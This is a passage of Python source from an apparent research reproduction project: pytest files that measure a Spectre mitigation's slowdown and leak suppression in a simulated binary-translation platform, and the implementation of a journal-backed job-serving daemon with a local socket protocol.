impact on performance, increasing the execution time by 16% on average."

Expected shape here: GhostBusters ~= 100% everywhere (the Spectre pattern
does not occur in the flat-array kernels), no-speculation well above
100%.  Absolute magnitudes differ from the paper (see EXPERIMENTS.md).
"""

import pytest

from repro.attacks import AttackVariant, build_attack_program
from repro.interp import run_program
from repro.kernels import POLYBENCH_SUITE, build_kernel_program
from repro.platform import ascii_figure, compare_policies, slowdown_table
from repro.platform.system import DbtSystem
from repro.security.policy import MitigationPolicy

from conftest import save_result

ATTACK_SECRET = b"GHO"


def _workloads():
    programs = {}
    for name, factory in POLYBENCH_SUITE.items():
        programs[name] = build_kernel_program(factory())
    programs["spectre-v1"] = build_attack_program(
        AttackVariant.SPECTRE_V1, ATTACK_SECRET,
    )
    programs["spectre-v4"] = build_attack_program(
        AttackVariant.SPECTRE_V4, ATTACK_SECRET,
    )
    return programs


@pytest.fixture(scope="module")
def figure4():
    comparisons = []
    for name, program in _workloads().items():
        expected = run_program(program).exit_code
        comparisons.append(compare_policies(
            name, program,
            policies=(
                MitigationPolicy.UNSAFE,
                MitigationPolicy.GHOSTBUSTERS,
                MitigationPolicy.NO_SPECULATION,
            ),
            expect_exit_code=expected,
        ))
    table = slowdown_table(comparisons, policies=(
        MitigationPolicy.GHOSTBUSTERS, MitigationPolicy.NO_SPECULATION,
    ))
    chart = ascii_figure(comparisons, MitigationPolicy.NO_SPECULATION)
    save_result("E2_figure4_slowdown.txt", table + "\n\n" + chart)
    return {c.workload: c for c in comparisons}


def test_figure4_shape(figure4):
    """The qualitative claims of Figure 4."""
    ghostbusters = [c.slowdown("our approach") for c in figure4.values()]
    no_spec = [c.slowdown("no speculation") for c in figure4.values()]
    # Our approach: no real slowdown on any benchmark.
    assert max(ghostbusters) < 1.05
    # No speculation: significant average slowdown.
    average = sum(no_spec) / len(no_spec)
    assert average > 1.10
    # And no-speculation is the worse countermeasure on every workload.
    for comparison in figure4.values():
        assert (comparison.slowdown("no speculation")
                >= comparison.slowdown("our approach") - 0.01), comparison.workload


@pytest.mark.parametrize("name", sorted(POLYBENCH_SUITE))
def test_workload_unsafe_runtime(name, benchmark, figure4):
    """Wall-time of one unsafe platform run (the simulator's own speed)."""
    program = build_kernel_program(POLYBENCH_SUITE[name]())

    def run_once():
        return DbtSystem(program, policy=MitigationPolicy.UNSAFE).run()

    result = benchmark.pedantic(run_once, rounds=1, iterations=1)
    comparison = figure4[name]
    benchmark.extra_info["guest_cycles"] = result.exit_code and result.cycles or result.cycles
    benchmark.extra_info["slowdown_ghostbusters"] = round(
        comparison.slowdown("our approach"), 4,
    )
    benchmark.extra_info["slowdown_no_speculation"] = round(
        comparison.slowdown("no speculation"), 4,
    )
