"""Ablation A3 — adaptive re-translation on chronic MCB conflicts.

An engine extension beyond the paper (in the spirit of the Hybrid-DBT
memory-speculation work the paper builds on): blocks that keep hitting
MCB rollbacks are rebuilt without memory speculation.  This ablation
measures its effect on the Spectre v4 PoC — rollback counts collapse,
and as a side effect the v4 leak dies after the warm-up rounds even on
the otherwise-unsafe configuration.
"""

import pytest

from repro.attacks import AttackVariant, build_attack_program
from repro.dbt.engine import DbtEngineConfig
from repro.platform.system import DbtSystem
from repro.security.policy import MitigationPolicy

from conftest import save_result

SECRET = b"GHOST"
THRESHOLDS = (None, 16, 4, 1)


def _run(threshold):
    program = build_attack_program(AttackVariant.SPECTRE_V4, SECRET)
    system = DbtSystem(
        program, policy=MitigationPolicy.UNSAFE,
        engine_config=DbtEngineConfig(conflict_retranslate_threshold=threshold),
    )
    result = system.run()
    recovered = sum(
        1 for a, b in zip(result.output[:len(SECRET)], SECRET) if a == b
    )
    return result, recovered


@pytest.fixture(scope="module")
def retranslation_data():
    rows = ["%-10s %10s %14s %14s %12s" % (
        "threshold", "rollbacks", "retranslations", "bytes leaked", "cycles",
    )]
    data = {}
    for threshold in THRESHOLDS:
        result, recovered = _run(threshold)
        rows.append("%-10s %10d %14d %11d/%d %12d" % (
            "off" if threshold is None else threshold,
            result.rollbacks,
            result.engine.conflict_retranslations,
            recovered, len(SECRET),
            result.cycles,
        ))
        data[threshold] = (result, recovered)
    save_result("A3_retranslation_ablation.txt", "\n".join(rows))
    return data


def test_disabled_leaks_and_rolls_back(retranslation_data):
    result, recovered = retranslation_data[None]
    assert recovered == len(SECRET)
    assert result.rollbacks > len(SECRET)


def test_aggressive_threshold_kills_rollbacks(retranslation_data):
    baseline, _ = retranslation_data[None]
    result, _ = retranslation_data[1]
    assert result.rollbacks < baseline.rollbacks
    assert result.engine.conflict_retranslations >= 1


def test_aggressive_threshold_breaks_the_leak(retranslation_data):
    _, recovered = retranslation_data[1]
    assert recovered < len(SECRET)


@pytest.mark.parametrize("threshold", [None, 1])
def test_retranslation_run_time(threshold, benchmark, retranslation_data):
    result = benchmark.pedantic(_run, args=(threshold,), rounds=1, iterations=1)
    benchmark.extra_info["rollbacks"] = result[0].rollbacks
