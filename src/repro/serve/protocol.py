"""Newline-delimited JSON over a local stream socket.

One request/response pair per connection keeps the protocol trivially
crash-safe on both sides: there is no framing state to corrupt, and a
peer that dies mid-line just yields an invalid (dropped) request.  The
daemon listens on either an ``AF_UNIX`` path (``--socket``) or a
loopback ``AF_INET`` port (``--port``).
"""

from __future__ import annotations

import json
import os
import socket
from typing import Any, Dict, Optional, Tuple

#: Upper bound on one request/response line; a local-trust API doesn't
#: need streaming, it needs a cheap defence against a runaway peer.
MAX_LINE = 8 * 1024 * 1024


class ProtocolError(RuntimeError):
    """Malformed or oversized line from the peer."""


def send_message(sock: socket.socket, message: Dict[str, Any]) -> None:
    sock.sendall(json.dumps(message, sort_keys=True).encode() + b"\n")


def recv_message(sock: socket.socket) -> Optional[Dict[str, Any]]:
    """Read one JSON line; ``None`` on clean EOF before any bytes."""
    chunks = []
    total = 0
    while True:
        chunk = sock.recv(65536)
        if not chunk:
            if not chunks:
                return None
            raise ProtocolError("peer closed mid-line")
        total += len(chunk)
        if total > MAX_LINE:
            raise ProtocolError("request line exceeds %d bytes" % MAX_LINE)
        newline = chunk.find(b"\n")
        if newline >= 0:
            chunks.append(chunk[:newline])
            break
        chunks.append(chunk)
    raw = b"".join(chunks)
    try:
        message = json.loads(raw.decode())
    except (ValueError, UnicodeDecodeError) as exc:
        raise ProtocolError("bad request line: %s" % exc)
    if not isinstance(message, dict):
        raise ProtocolError("request must be a JSON object")
    return message


def serve_address(socket_path: Optional[str],
                  port: Optional[int]) -> Tuple[int, Any]:
    """Normalize ``--socket``/``--port`` into ``(family, address)``."""
    if socket_path and port:
        raise ValueError("choose one of --socket and --port, not both")
    if port:
        return socket.AF_INET, ("127.0.0.1", int(port))
    if not socket_path:
        raise ValueError("a --socket path or --port is required")
    return socket.AF_UNIX, socket_path


def listen(family: int, address: Any) -> socket.socket:
    if family == socket.AF_UNIX and os.path.exists(address):
        os.unlink(address)  # stale socket from a killed daemon
    sock = socket.socket(family, socket.SOCK_STREAM)
    if family == socket.AF_INET:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(address)
    sock.listen(16)
    return sock


def connect(family: int, address: Any,
            timeout: float = 10.0) -> socket.socket:
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.settimeout(timeout)
    sock.connect(address)
    return sock
