"""``repro serve`` — a crash-safe simulation service.

A long-lived daemon owning a warm worker fleet (pre-imported modules,
shared persistent tcache) and a priority job queue, fed over a local
socket JSON API.  Durability comes from a checksummed JSONL
write-ahead journal; liveness from a heartbeat/lease watchdog.  See
:mod:`repro.serve.daemon` for the failure model.
"""

from .client import ServeClient, ServeError
from .daemon import ServeConfig, ServeDaemon, ServeStats, run_server
from .jobs import (JOB_KINDS, JobError, JobRecord, JobState,
                   TERMINAL_STATES, execute_job, validate_payload)
from .journal import JobJournal, JournalReplay, journal_events

__all__ = [
    "JOB_KINDS", "JobError", "JobJournal", "JobRecord", "JobState",
    "JournalReplay", "ServeClient", "ServeConfig", "ServeDaemon",
    "ServeError", "ServeStats", "TERMINAL_STATES", "execute_job",
    "journal_events", "run_server", "validate_payload",
]
