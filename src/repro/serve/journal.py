"""Crash-safe append-only job journal for the serve daemon.

The journal is the daemon's only durable state: a checksummed JSONL
write-ahead log of job lifecycle events.  Every state transition is
appended (and fsynced) *before* the daemon acts on it, so a SIGKILL at
any instant leaves a log that replays to a consistent queue:

* ``submit``  — job accepted (payload + priority recorded)
* ``lease``   — job handed to a worker (attempt counter bumps)
* ``done``    — result recorded (terminal)
* ``failed``  — permanent payload error (terminal)
* ``quarantined`` — retry budget exhausted (terminal)
* ``requeue`` — lease abandoned (crash/hang/expiry); back to queued
* ``state``   — one-line snapshot written by :func:`JobJournal.compact`

Each line is ``{"seq": n, "entry": {...}, "sha256": h}`` where ``h``
checksums the entry's canonical JSON.  Replay tolerates torn tails
(kill mid-append) and flipped bytes (the ``serve-journal-corrupt``
chaos site): a line that fails to parse or checksum is *dropped*, and
the replay semantics below guarantee dropping any non-terminal line is
safe — the job merely re-runs, which is free because simulation is
deterministic.

Replay semantics (the exactly-once core):

* The **first terminal event wins**.  A duplicate ``done`` for an
  already-terminal job is counted (``duplicate_results``) and ignored,
  so a daemon that crashed between journaling and acting can never
  double-complete a job on restart.
* After the scan, every job still ``LEASED`` goes back to ``QUEUED``
  with its lease cleared — the worker holding it died with the daemon.
* A terminal event whose ``submit`` line was corrupted away still
  yields a (payload-less) terminal record, so its result is not lost.
"""

from __future__ import annotations

import hashlib
import json
import os
from collections import OrderedDict
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Dict, List, Optional, Union

from ..platform.parallel import compact_jsonl
from .jobs import JobRecord, JobState

#: Events that move a job into a terminal state.
_TERMINAL_EVENTS = {
    "done": JobState.DONE,
    "failed": JobState.FAILED,
    "quarantined": JobState.QUARANTINED,
}


def _entry_checksum(entry: Dict[str, Any]) -> str:
    return hashlib.sha256(
        json.dumps(entry, sort_keys=True).encode()).hexdigest()


@dataclass
class JournalReplay:
    """What a journal scan recovered (and what it had to drop)."""

    jobs: "OrderedDict[str, JobRecord]" = field(default_factory=OrderedDict)
    entries: int = 0
    #: Lines dropped: torn tails, flipped bytes, checksum mismatches.
    corrupt_lines: int = 0
    #: Terminal events for already-terminal jobs (ignored, first wins).
    duplicate_results: int = 0
    #: Jobs whose lease was voided because the daemon died holding it.
    recovered_leases: int = 0
    #: Highest sequence number seen (appends resume after it).
    max_seq: int = 0


class JobJournal:
    """Append-only checksummed JSONL WAL with replay and compaction."""

    def __init__(self, path: Union[str, Path]):
        self.path = Path(path)
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self._seq = 0
        self._handle = None

    # -- writing ----------------------------------------------------------

    def open(self, start_seq: int = 0) -> None:
        self._seq = start_seq
        self._handle = open(self.path, "a")

    def close(self) -> None:
        if self._handle is not None:
            self._handle.close()
            self._handle = None

    def append(self, event: str, job_id: str, **fields: Any) -> int:
        """Durably append one event line; returns its sequence number.

        The line is flushed *and fsynced* before returning — the caller
        may act on the transition (hand the job to a worker, reply to
        the client) only after this returns, which is what makes the
        WAL a write-*ahead* log.
        """
        if self._handle is None:
            self.open(self._seq)
        self._seq += 1
        entry = {"event": event, "job": job_id}
        entry.update(fields)
        line = {"seq": self._seq, "entry": entry,
                "sha256": _entry_checksum(entry)}
        self._handle.write(json.dumps(line, sort_keys=True) + "\n")
        self._handle.flush()
        os.fsync(self._handle.fileno())
        return self._seq

    # -- replay -----------------------------------------------------------

    def replay(self) -> JournalReplay:
        """Scan the journal into a consistent job table (see module doc)."""
        replay = JournalReplay()
        if not self.path.exists():
            return replay
        with open(self.path, "r", errors="replace") as handle:
            raw_lines = handle.read().split("\n")
        for raw in raw_lines:
            if not raw.strip():
                continue
            entry = self._check_line(raw)
            if entry is None:
                replay.corrupt_lines += 1
                continue
            replay.entries += 1
            self._apply(replay, entry)
        for record in replay.jobs.values():
            if record.state is JobState.LEASED:
                record.state = JobState.QUEUED
                record.worker = None
                replay.recovered_leases += 1
        self._seq = max(self._seq, replay.max_seq)
        return replay

    def _check_line(self, raw: str) -> Optional[Dict[str, Any]]:
        try:
            line = json.loads(raw)
        except ValueError:
            return None
        if not isinstance(line, dict):
            return None
        entry = line.get("entry")
        if not isinstance(entry, dict) or "event" not in entry:
            return None
        if line.get("sha256") != _entry_checksum(entry):
            return None
        return {"seq": int(line.get("seq", 0)), **entry}

    def _apply(self, replay: JournalReplay, entry: Dict[str, Any]) -> None:
        replay.max_seq = max(replay.max_seq, entry["seq"])
        event = entry["event"]
        job_id = str(entry.get("job"))
        record = replay.jobs.get(job_id)

        if event == "state":
            # Compaction snapshot: authoritative, replaces anything seen.
            replay.jobs[job_id] = _record_from_snapshot(job_id, entry)
            return

        if record is None:
            record = JobRecord(job_id=job_id, payload=None,
                               seq=entry["seq"])
            replay.jobs[job_id] = record

        if event == "submit":
            record.payload = entry.get("payload")
            record.priority = int(entry.get("priority", 0))
            record.seq = entry["seq"]
            if not record.terminal:
                record.state = JobState.QUEUED
            return

        if event in _TERMINAL_EVENTS:
            if record.terminal:
                replay.duplicate_results += 1
                return
            record.state = _TERMINAL_EVENTS[event]
            record.result = entry.get("result", record.result)
            record.error = entry.get("error", record.error)
            record.worker = None
            return

        if record.terminal:
            # Late lease/requeue lines for a finished job (daemon died
            # between appends) must not resurrect it.
            return

        if event == "lease":
            record.state = JobState.LEASED
            record.attempts = int(entry.get("attempt", record.attempts + 1))
            record.worker = entry.get("worker")
        elif event == "requeue":
            record.state = JobState.QUEUED
            record.worker = None

    # -- compaction -------------------------------------------------------

    def compact(self, jobs: Dict[str, JobRecord]) -> None:
        """Rewrite the journal as one ``state`` snapshot line per job.

        Reuses the sweep checkpoints' atomic :func:`compact_jsonl`
        primitive (temp file + ``os.replace``), so a kill mid-compaction
        leaves either the full history or the full snapshot.
        """
        self.close()
        records = []
        for record in jobs.values():
            self._seq += 1
            entry = {
                "event": "state", "job": record.job_id, "seq": self._seq,
                "state": record.state.value, "payload": record.payload,
                "priority": record.priority, "attempts": record.attempts,
                "result": record.result, "error": record.error,
            }
            seq = entry.pop("seq")
            records.append({"seq": seq, "entry": entry,
                            "sha256": _entry_checksum(entry)})
        compact_jsonl(self.path, records)


def _record_from_snapshot(job_id: str, entry: Dict[str, Any]) -> JobRecord:
    record = JobRecord(
        job_id=job_id,
        payload=entry.get("payload"),
        priority=int(entry.get("priority", 0)),
        state=JobState(entry.get("state", JobState.QUEUED.value)),
        attempts=int(entry.get("attempts", 0)),
        result=entry.get("result"),
        error=entry.get("error"),
        seq=entry["seq"],
    )
    if record.state is JobState.LEASED:
        record.state = JobState.QUEUED
    return record


def journal_events(path: Union[str, Path]) -> List[Dict[str, Any]]:
    """All valid entries in journal order (tests and ``repro jobs -v``)."""
    journal = JobJournal(path)
    events = []
    if not journal.path.exists():
        return events
    with open(journal.path, "r", errors="replace") as handle:
        for raw in handle.read().split("\n"):
            if not raw.strip():
                continue
            entry = journal._check_line(raw)
            if entry is not None:
                events.append(entry)
    return events
