"""The serve daemon: journal-backed scheduler over a warm worker fleet.

Robustness model (see ``docs/RESILIENCE.md`` for the operator view):

* Every state transition is journaled (fsynced) *before* the daemon
  acts on it — :class:`~repro.serve.journal.JobJournal` is a WAL.  A
  SIGKILLed daemon restarts by replaying the journal: terminal jobs
  keep their results, leased jobs go back to the queue, nothing is
  lost and nothing runs twice (first terminal event wins).
* Workers are leased one job at a time with a deadline.  The watchdog
  SIGKILLs a worker that stops heartbeating or blows its lease, then
  requeues the job with exponential backoff.  SIGKILL-before-requeue
  is the duplicate-result guard: a hung-but-alive worker can never
  finish late and race its own retry.
* A job that keeps killing workers past the retry budget is
  **quarantined** — parked terminal so one poison payload cannot eat
  the fleet forever.
* Graceful degradation: SIGTERM drains (in-flight jobs finish, queue
  survives in the journal), and if the fleet cannot be rebuilt after
  crashes the daemon falls back to serial in-process execution with
  chaos faults stripped, trading throughput for liveness.

Determinism makes the recovery ladder cheap: re-running a simulation
job after any failure yields bit-identical results, so "requeue and
retry" is always semantically safe — the journal only has to guarantee
*at-least-once execution, exactly-once result recording*.
"""

from __future__ import annotations

import shutil
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Dict, List, Optional, Union

from ..obs.pipeline import TelemetryConfig, merge_spool
from ..platform.parallel import RunnerTelemetry
from ..resilience.faults import FaultInjector, FaultSite, WorkerFault
from .fleet import WorkerFleet, WorkerHandle
from .jobs import (JobError, JobRecord, JobState, execute_job, payload_fault,
                   validate_payload)
from .journal import JobJournal


@dataclass
class ServeConfig:
    """Daemon tunables (CLI flags map 1:1)."""

    workers: int = 2
    tcache_dir: Optional[str] = None
    #: Daemon scratch root: journal + per-job telemetry spools.
    work_dir: Union[str, Path] = ".repro-serve"
    journal_path: Optional[Union[str, Path]] = None
    #: Per-job lease deadline (a payload may set its own, smaller).
    lease_timeout: float = 120.0
    #: Re-lease budget after worker crash/hang/expiry; the job is
    #: quarantined on attempt ``retries + 2``.
    retries: int = 2
    backoff: float = 0.5
    heartbeat_interval: float = 0.25
    heartbeat_timeout: float = 5.0
    #: Rewrite the journal to one snapshot line per job on clean stop.
    compact_on_stop: bool = True

    @property
    def journal(self) -> Path:
        if self.journal_path is not None:
            return Path(self.journal_path)
        return Path(self.work_dir) / "journal.jsonl"

    @property
    def spool_root(self) -> Path:
        return Path(self.work_dir) / "spool"


@dataclass
class ServeStats:
    """Daemon-lifetime counters (``repro jobs --status``)."""

    submitted: int = 0
    completed: int = 0
    failed: int = 0
    quarantined: int = 0
    requeues: int = 0
    #: Results for already-terminal jobs, dropped (first wins).
    duplicate_results: int = 0
    lease_expiries: int = 0
    worker_crashes: int = 0
    worker_hangs: int = 0
    serial_jobs: int = 0
    replayed_jobs: int = 0
    replayed_corrupt_lines: int = 0

    def to_dict(self) -> Dict[str, int]:
        return dict(self.__dict__)


class ServeDaemon:
    """Scheduler + watchdog + journal, with a socket-free public API.

    The socket server is a thin wrapper over :meth:`handle_request`;
    tests and the chaos matrix drive the daemon directly through
    :meth:`submit`/:meth:`wait` so durability is exercised without
    network noise.
    """

    def __init__(self, config: Optional[ServeConfig] = None,
                 injector: Optional[FaultInjector] = None):
        self.config = config or ServeConfig()
        self.injector = injector
        self.stats = ServeStats()
        self.telemetry = RunnerTelemetry()
        self.jobs_table: Dict[str, JobRecord] = {}
        self.journal = JobJournal(self.config.journal)
        self.fleet = WorkerFleet(
            self.config.workers, tcache_dir=self.config.tcache_dir,
            heartbeat_interval=self.config.heartbeat_interval,
            heartbeat_timeout=self.config.heartbeat_timeout,
            telemetry=self.telemetry)
        self._lock = threading.RLock()
        self._wake = threading.Condition(self._lock)
        self._scheduler: Optional[threading.Thread] = None
        self._stopping = threading.Event()
        self._draining = threading.Event()
        self._seq = 0
        self._now = time.monotonic

    # -- lifecycle --------------------------------------------------------

    def start(self) -> None:
        """Replay the journal, spawn the fleet, start scheduling."""
        Path(self.config.work_dir).mkdir(parents=True, exist_ok=True)
        replay = self.journal.replay()
        with self._lock:
            self.jobs_table = dict(replay.jobs)
            self._seq = max((record.seq for record in replay.jobs.values()),
                            default=0)
        self.stats.replayed_jobs = len(replay.jobs)
        self.stats.replayed_corrupt_lines = replay.corrupt_lines
        self.stats.duplicate_results += replay.duplicate_results
        self.stats.requeues += replay.recovered_leases
        self.journal.open(start_seq=replay.max_seq)
        self.fleet.start()
        self._scheduler = threading.Thread(target=self._scheduler_loop,
                                           name="repro-serve-scheduler",
                                           daemon=True)
        self._scheduler.start()

    def stop(self, drain: bool = True, timeout: float = 60.0) -> None:
        """Stop the daemon; ``drain`` lets leased jobs finish first."""
        if drain:
            self._draining.set()
            deadline = self._now() + timeout
            with self._wake:
                while self._leased_ids() and self._now() < deadline:
                    self._wake.wait(0.2)
        self._stopping.set()
        if self._scheduler is not None:
            self._scheduler.join(10.0)
            self._scheduler = None
        self.fleet.shutdown()
        if self.config.compact_on_stop:
            with self._lock:
                self.journal.compact(self.jobs_table)
        self.journal.close()

    def request_drain(self) -> None:
        """SIGTERM entry point: finish in-flight work, stop leasing."""
        self._draining.set()

    @property
    def draining(self) -> bool:
        return self._draining.is_set()

    # -- public API (socket-free) -----------------------------------------

    def submit(self, payload: Dict[str, Any], priority: int = 0,
               job_id: Optional[str] = None) -> str:
        """Validate, journal, and queue one job; returns its id."""
        validate_payload(payload)
        with self._wake:
            self._seq += 1
            if job_id is None:
                job_id = "job-%06d" % self._seq
            if job_id in self.jobs_table:
                raise JobError("duplicate job id %r" % job_id)
            # WAL discipline: the submit line is durable before the job
            # becomes visible to the scheduler.
            seq = self.journal.append("submit", job_id, payload=payload,
                                      priority=priority)
            self.jobs_table[job_id] = JobRecord(
                job_id=job_id, payload=payload, priority=priority, seq=seq)
            self.stats.submitted += 1
            self._wake.notify_all()
        return job_id

    def job(self, job_id: str) -> Optional[JobRecord]:
        with self._lock:
            return self.jobs_table.get(job_id)

    def jobs(self) -> List[Dict[str, Any]]:
        with self._lock:
            records = sorted(self.jobs_table.values(),
                             key=lambda record: record.seq)
            return [record.summary() for record in records]

    def wait(self, job_id: str,
             timeout: Optional[float] = None) -> Optional[JobRecord]:
        """Block until ``job_id`` reaches a terminal state (or timeout)."""
        deadline = None if timeout is None else self._now() + timeout
        with self._wake:
            while True:
                record = self.jobs_table.get(job_id)
                if record is not None and record.terminal:
                    return record
                remaining = None if deadline is None \
                    else deadline - self._now()
                if remaining is not None and remaining <= 0:
                    return record
                self._wake.wait(0.2 if remaining is None
                                else min(0.2, remaining))

    def status(self) -> Dict[str, Any]:
        with self._lock:
            states: Dict[str, int] = {}
            for record in self.jobs_table.values():
                states[record.state.value] = \
                    states.get(record.state.value, 0) + 1
        return {
            "workers": len(self.fleet.workers),
            "degraded": self.fleet.degraded,
            "draining": self.draining,
            "jobs": states,
            "stats": self.stats.to_dict(),
            "runner": self.telemetry.summary(),
        }

    # -- scheduler --------------------------------------------------------

    def _scheduler_loop(self) -> None:
        while not self._stopping.is_set():
            # Watchdog before poll: an expired lease is killed before
            # its (late) result is ever read off the pipe, so expiry is
            # deterministic — re-running is bit-identical, so dropping
            # a just-in-time result only costs time, never correctness.
            self._watchdog()
            events = self.fleet.poll(timeout=0.1)
            for kind, handle, message in events:
                if kind == "result":
                    self._on_result(handle, message)
                else:
                    self._on_crash(handle, message.get("detail", "crash"))
            if not self.fleet.degraded:
                self.fleet.rebuild()
            if self.fleet.degraded:
                self._serial_pass()
            else:
                self._assign()

    def _leased_ids(self) -> List[str]:
        with self._lock:
            return [record.job_id for record in self.jobs_table.values()
                    if record.state is JobState.LEASED]

    def _due_ids(self, now: float) -> List[str]:
        with self._lock:
            due = [record for record in self.jobs_table.values()
                   if record.state is JobState.QUEUED
                   and record.not_before <= now]
        due.sort(key=lambda record: (-record.priority, record.seq))
        return [record.job_id for record in due]

    def _assign(self) -> None:
        if self.draining:
            return
        idle = self.fleet.idle_workers()
        if not idle:
            return
        for job_id in self._due_ids(self._now()):
            if not idle:
                break
            handle = idle.pop()
            self._lease(handle, job_id)

    def _lease(self, handle: WorkerHandle, job_id: str) -> None:
        with self._wake:
            record = self.jobs_table[job_id]
            if record.state is not JobState.QUEUED:
                return
            attempt = record.attempts + 1
            lease_timeout = float((record.payload or {}).get(
                "lease_timeout", self.config.lease_timeout))
            if self._fire(FaultSite.SERVE_LEASE_EXPIRE,
                          "lease for %s pre-expired" % job_id):
                # Already past its deadline: the watchdog must SIGKILL
                # the worker and re-lease no matter how fast the job
                # is — the injected expiry cannot race the result.
                lease_timeout = -1.0
            fault = None
            if attempt == 1:
                # Injected worker faults mirror the payload-fault
                # contract: first attempt only, so the retry heals.
                if self._fire(FaultSite.SERVE_WORKER_CRASH,
                              "worker executing %s SIGKILLed" % job_id):
                    fault = WorkerFault(kind="crash")
                elif self._fire(FaultSite.SERVE_WORKER_HANG,
                                "worker executing %s hung" % job_id):
                    fault = WorkerFault(kind="hang", seconds=60.0)
            telemetry = self._job_telemetry(record)
            # WAL: lease line is durable before the worker sees the job.
            self.journal.append("lease", job_id, attempt=attempt,
                                worker=handle.pid,
                                lease_timeout=lease_timeout)
            record.state = JobState.LEASED
            record.attempts = attempt
            record.worker = handle.pid
            self.telemetry.attempts += 1
        try:
            self.fleet.lease(handle, job_id, record.payload, attempt,
                             lease_timeout, telemetry=telemetry, fault=fault)
        except (OSError, ValueError):
            # Worker died between poll and lease: requeue immediately.
            self._on_crash(handle, "lease send failed")

    def _job_telemetry(self,
                       record: JobRecord) -> Optional[TelemetryConfig]:
        payload = record.payload or {}
        if not payload.get("telemetry"):
            return None
        spool = self.config.spool_root / record.job_id
        # Wipe the spool at (re-)lease so a retried job's metrics are
        # counted once — the abandoned attempt's envelopes would
        # otherwise double every counter in the merge.
        shutil.rmtree(spool, ignore_errors=True)
        spool.mkdir(parents=True, exist_ok=True)
        return TelemetryConfig(spool_dir=str(spool),
                               trace=bool(payload.get("trace")))

    def _fire(self, site: FaultSite, detail: str) -> bool:
        if self.injector is None or not self.injector.should_fire(site):
            return False
        self.injector.record(site, detail)
        return True

    # -- event handlers ---------------------------------------------------

    def _on_result(self, handle: WorkerHandle, message: Dict[str, Any]) \
            -> None:
        job_id = message.get("job")
        with self._wake:
            handle.job_id = None
            record = self.jobs_table.get(job_id)
            if record is None:
                return
            if record.terminal:
                # First terminal event won already (e.g. the job was
                # requeued, retried, and finished before a slow
                # original worker reported). Drop, never overwrite.
                self.stats.duplicate_results += 1
                return
            if message.get("ok"):
                result = message.get("result")
                result = self._merge_metrics(record, result)
                self.journal.append("done", job_id, result=result,
                                    worker=message.get("pid"))
                record.state = JobState.DONE
                record.result = result
                self.stats.completed += 1
            else:
                # The worker survived and reported a Python exception:
                # a deterministic payload error, not a worker failure.
                # Retrying cannot change the outcome — fail now.
                error = message.get("error", "job failed")
                self.journal.append("failed", job_id, error=error)
                record.state = JobState.FAILED
                record.error = error
                self.stats.failed += 1
            record.worker = None
            self._wake.notify_all()

    def _merge_metrics(self, record: JobRecord,
                       result: Any) -> Any:
        payload = record.payload or {}
        if not payload.get("telemetry") or not isinstance(result, dict):
            return result
        spool = self.config.spool_root / record.job_id
        merged = merge_spool(spool)
        result = dict(result)
        result["metrics"] = merged.registry.to_dict()
        result["telemetry"] = {
            "envelopes": len(merged.envelopes),
            "workers": merged.workers,
            "skipped": merged.skipped,
        }
        shutil.rmtree(spool, ignore_errors=True)
        return result

    def _on_crash(self, handle: WorkerHandle, detail: str) -> None:
        job_id = handle.job_id
        self.stats.worker_crashes += 1
        self.telemetry.crashes += 1
        self.fleet.kill(handle)
        if job_id is not None:
            self._requeue(job_id, "worker crash: %s" % detail)

    def _watchdog(self) -> None:
        now = self._now()
        for handle in self.fleet.dead_workers():
            self._on_crash(handle, "worker process exited")
        for handle in list(self.fleet.expired(now)):
            job_id = handle.job_id
            self.stats.lease_expiries += 1
            self.telemetry.timeouts += 1
            # SIGKILL before requeue: the lease holder must be dead
            # before the job can run anywhere else.
            self.fleet.kill(handle)
            if job_id is not None:
                self._requeue(job_id, "lease expired")
        for handle in list(self.fleet.hung_workers(now)):
            if handle in self.fleet.workers:
                job_id = handle.job_id
                self.stats.worker_hangs += 1
                self.telemetry.timeouts += 1
                self.fleet.kill(handle)
                if job_id is not None:
                    self._requeue(job_id, "heartbeat lost")

    def _requeue(self, job_id: str, reason: str) -> None:
        with self._wake:
            record = self.jobs_table.get(job_id)
            if record is None or record.terminal:
                return
            if record.attempts >= self.config.retries + 2:
                self.journal.append("quarantined", job_id, error=reason,
                                    attempts=record.attempts)
                record.state = JobState.QUARANTINED
                record.error = ("quarantined after %d attempt(s): %s"
                                % (record.attempts, reason))
                record.worker = None
                self.stats.quarantined += 1
                self._wake.notify_all()
                return
            delay = self.config.backoff * (2 ** max(0, record.attempts - 1))
            self.journal.append("requeue", job_id, reason=reason,
                                backoff=delay)
            record.state = JobState.QUEUED
            record.worker = None
            record.not_before = self._now() + delay
            self.stats.requeues += 1
            self.telemetry.retries += 1
            self._wake.notify_all()

    def _serial_pass(self) -> None:
        """Fleet is gone and cannot be rebuilt: run jobs in-daemon.

        Chaos faults are stripped (they target *workers*; crashing the
        daemon would turn degradation into an outage) — mirroring the
        hardened runner's serial-fallback contract.
        """
        for job_id in self._due_ids(self._now()):
            if self._stopping.is_set() or self.draining:
                return
            with self._wake:
                record = self.jobs_table.get(job_id)
                if record is None or record.state is not JobState.QUEUED:
                    continue
                attempt = record.attempts + 1
                telemetry = self._job_telemetry(record)
                self.journal.append("lease", job_id, attempt=attempt,
                                    worker=0)
                record.state = JobState.LEASED
                record.attempts = attempt
                record.worker = 0
                self.telemetry.serial_fallbacks += 1
                self.stats.serial_jobs += 1
            try:
                result = execute_job(record.payload, telemetry=telemetry,
                                     fault=None,
                                     tcache_dir=self.config.tcache_dir)
                ok, error = True, None
            except Exception as exc:  # noqa: BLE001
                ok, error, result = False, "%s: %s" % (
                    type(exc).__name__, exc), None
            with self._wake:
                if record.terminal:
                    self.stats.duplicate_results += 1
                    continue
                if ok:
                    result = self._merge_metrics(record, result)
                    self.journal.append("done", job_id, result=result,
                                        worker=0)
                    record.state = JobState.DONE
                    record.result = result
                    self.stats.completed += 1
                else:
                    self.journal.append("failed", job_id, error=error)
                    record.state = JobState.FAILED
                    record.error = error
                    self.stats.failed += 1
                record.worker = None
                self._wake.notify_all()

    # -- request dispatch (the socket server calls this) ------------------

    def handle_request(self, request: Dict[str, Any]) -> Dict[str, Any]:
        op = request.get("op")
        try:
            if op == "ping":
                return {"ok": True, "pong": True}
            if op == "submit":
                job_id = self.submit(request.get("payload"),
                                     priority=int(request.get("priority", 0)),
                                     job_id=request.get("job"))
                return {"ok": True, "job": job_id}
            if op == "jobs":
